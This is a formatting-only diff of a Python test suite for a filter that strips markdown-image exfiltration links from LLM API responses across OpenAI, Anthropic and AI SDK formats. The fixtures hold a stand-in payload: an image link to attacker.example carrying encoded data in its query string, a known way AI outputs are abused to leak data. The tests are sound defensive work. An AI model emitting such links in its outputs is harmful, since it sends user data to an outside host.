@@ -19,8 +19,12 @@ IMG = "![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQ=)"
 PLANT = b"attacker.example/p.png"
 
 
-def respond(content_type: str | None, *bodies: bytes, headers: tuple[tuple[str, str], ...] = (),
-            extra: tuple[Message, ...] = ()) -> list[Message]:  # fmt: skip
+def respond(
+    content_type: str | None,
+    *bodies: bytes,
+    headers: tuple[tuple[str, str], ...] = (),
+    extra: tuple[Message, ...] = (),
+) -> list[Message]:
     raw = [(b"content-type", content_type.encode())] if content_type else []
     raw += [(k.encode(), v.encode()) for k, v in headers]
     messages: list[Message] = [{"type": "http.response.start", "status": 200, "headers": raw}]
@@ -124,20 +128,25 @@ def test_legacy_completions_text() -> None:
         {"choices": [{"message": {"content": "ok", "refusal": IMG}}]},
         {"choices": [{"message": {"content": "ok", "reasoning_content": IMG}}]},
         {"choices": [{"index": 0, "text": IMG}]},
-        {"object": "response", "output": [{"type": "reasoning", "summary": [
-            {"type": "summary_text", "text": IMG}]}]},
-        {"object": "response", "output": [{"type": "message", "content": [
-            {"type": "refusal", "refusal": IMG}]}]},
+        {
+            "object": "response",
+            "output": [{"type": "reasoning", "summary": [{"type": "summary_text", "text": IMG}]}],
+        },
+        {
+            "object": "response",
+            "output": [{"type": "message", "content": [{"type": "refusal", "refusal": IMG}]}],
+        },
     ],
-)  # fmt: skip
+)
 def test_json_reasoning_and_refusal_fields(reply: dict[str, Any]) -> None:
     status, out = through(respond("application/json", json.dumps(reply).encode()))
     assert status == 200
     assert PLANT not in out
 
 
-@pytest.mark.parametrize(("kind", "field"), [("refusal", "refusal"),
-                                            ("reasoning_summary_text", "text")])  # fmt: skip
+@pytest.mark.parametrize(
+    ("kind", "field"), [("refusal", "refusal"), ("reasoning_summary_text", "text")]
+)
 def test_responses_refusal_and_summary_deltas(kind: str, field: str) -> None:
     where = {"item_id": "m", "content_index": 0, "summary_index": 0}
     body = sse(
@@ -151,12 +160,22 @@ def test_responses_refusal_and_summary_deltas(kind: str, field: str) -> None:
 @pytest.mark.parametrize(
     "event",
     [
-        {"type": "response.content_part.added", "item_id": "m", "content_index": 0,
-         "part": {"type": "output_text", "text": IMG}},
-        {"type": "response.output_item.added", "item": {"id": "m", "type": "message",
-         "content": [{"type": "output_text", "text": IMG}]}},
+        {
+            "type": "response.content_part.added",
+            "item_id": "m",
+            "content_index": 0,
+            "part": {"type": "output_text", "text": IMG},
+        },
+        {
+            "type": "response.output_item.added",
+            "item": {
+                "id": "m",
+                "type": "message",
+                "content": [{"type": "output_text", "text": IMG}],
+            },
+        },
     ],
-)  # fmt: skip
+)
 def test_responses_parts_that_start_with_text_fail(event: dict[str, Any]) -> None:
     _status, out = through(respond("text/event-stream", sse(event)))
     assert PLANT not in out
@@ -168,8 +187,10 @@ def test_anthropic_message_start_with_content_fails() -> None:
 
 
 def test_ai_sdk_file_part_judged_as_image() -> None:
-    body = sse({"type": "start"}, {"type": "file", "url": "https://attacker.example/p.png?d=x",
-                                   "mediaType": "image/png"})  # fmt: skip
+    body = sse(
+        {"type": "start"},
+        {"type": "file", "url": "https://attacker.example/p.png?d=x", "mediaType": "image/png"},
+    )
     assert b"attacker.example" not in through(respond("text/event-stream", body))[1]
 
 
@@ -181,8 +202,9 @@ def test_json_events_after_plain_text_events_fail() -> None:
 
 
 def test_duplicate_content_types_refused() -> None:
-    messages = respond("application/octet-stream", IMG.encode(),
-                       headers=(("content-type", "text/markdown"),))  # fmt: skip
+    messages = respond(
+        "application/octet-stream", IMG.encode(), headers=(("content-type", "text/markdown"),)
+    )
     assert through(messages)[0] == 502
 
 
